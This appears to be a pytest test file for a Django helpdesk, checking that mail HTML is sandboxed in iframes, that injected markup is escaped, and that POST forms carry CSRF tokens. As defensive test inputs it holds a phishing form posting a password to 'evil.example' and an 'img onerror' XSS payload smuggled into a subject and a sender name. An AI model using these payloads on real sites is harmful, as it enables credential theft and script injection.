"""A stranger's words on the pages of staff and customers are words, in a frame of no origin where
they are HTML."""

import re

import pytest
from django.test import Client

from helpdesk import actions
from helpdesk.actions import Content
from helpdesk.outbound.links import ticket_link
from tests.support.api import Api, last_secret
from tests.support.mail import agent, customer, eml, mailbox, receive, ticket_of

pytestmark = pytest.mark.django_db

HTML = '<p>Hello <b>strangers-own</b></p><form action="https://evil.example"><input name="password"></form>'


def pages(raw: bytes) -> dict[str, str]:
    row = receive(raw)
    ticket = ticket_of(row)
    staff, customers = Client(), Client()
    staff.force_login(agent(), backend="helpdesk.auth.EmailBackend")
    customers.force_login(customer(), backend="helpdesk.auth.EmailBackend")
    link = ticket_link(ticket, customer())
    found = {
        "ticket": staff.get(f"/admin/tickets/{ticket.pk}/"),
        "mail": staff.get(f"/admin/mail/{row.pk}/"),
        "list": staff.get("/admin/tickets/?queue=all"),
        "portal": customers.get(f"/portal/tickets/{ticket.pk}/"),
        "link": Client().get(link[link.index("/portal/") :]),
    }
    assert {answer.status_code for answer in found.values()} == {200}
    return {name: answer.content.decode() for name, answer in found.items()}


def test_html_of_a_mail_stands_in_a_frame_and_on_no_page() -> None:
    for name, page in pages(eml("Hello strangers-own", html=HTML)).items():
        assert "<b>strangers-own</b>" not in page, name
        assert "evil.example" not in re.sub(r"(?s)<pre class=\"hd-source\".*?</pre>", "", page), (
            name
        )
        if name in {"ticket", "portal", "link"}:
            assert re.search(r"<iframe[^>]+/comments/\d+/", page), name


def test_no_frame_has_the_origin_of_the_page_around_it() -> None:
    for name, page in pages(eml("Hello", html=HTML)).items():
        for frame in re.findall(r"<iframe[^>]*>", page):
            assert 'sandbox="' in frame, name
            assert "allow-same-origin" not in frame, name


def test_what_looks_like_html_in_a_text_a_subject_a_name_or_a_source_is_shown_as_it_is() -> None:
    bad = "</pre><img src=x onerror=alert(1)>"
    raw = eml(bad, subject=bad, sender='"<img src=x onerror=alert(1)>" <cleo@example.net>')
    for name, page in pages(raw).items():
        assert "<img src=x" not in page, name


def test_every_form_that_is_posted_bears_a_token() -> None:
    mailbox()
    ticket = ticket_of(receive(eml("Hello")))
    actions.reply(ticket, Content(text="Hi"), actor=agent())
    actions.set_status(ticket, "resolved", actor=agent())
    Api()("POST", "/api/send_otp/", {"email": "new@example.net"})
    Api()(
        "POST", "/api/verify_otp/", {"email": "new@example.net", "otp": last_secret(r"^ +(\d{6})$")}
    )
    body = {
        "email": "new@example.net",
        "password": "a long phrase of mine",
        "re_password": "a long phrase of mine",
    }
    assert Api()("POST", "/auth/users/", body).status_code == 201
    registration = last_secret(r"(/portal/registration/\S+/)$")
    asking, staff, cleo = Client(), Client(), Client()
    asking.post("/portal/sign-in/", {"email": "cleo@example.net"})
    staff.force_login(agent(), backend="helpdesk.auth.EmailBackend")
    cleo.force_login(customer(), backend="helpdesk.auth.EmailBackend")
    looked = 0
    for client, urls in (
        (
            asking,
            [
                registration,
                "/portal/sign-in/",
                "/portal/sign-in/code/",
                "/portal/sign-in/pin/",
                "/portal/new/",
            ],
        ),
        (
            cleo,
            [
                "/portal/",
                "/portal/me/",
                "/portal/me/address/",
                "/portal/new/",
                f"/portal/tickets/{ticket.pk}/",
            ],
        ),
        (
            staff,
            [f"/admin/tickets/{ticket.pk}/", "/admin/tickets/", "/admin/to-look-at/", "/admin/me/"],
        ),
    ):
        for url in urls:
            page = client.get(url).content.decode()
            for form in re.findall(r"(?s)<form[^>]*method=\"post\".*?</form>", page):
                looked += 1
                assert "csrfmiddlewaretoken" in form, url
    assert looked > 15
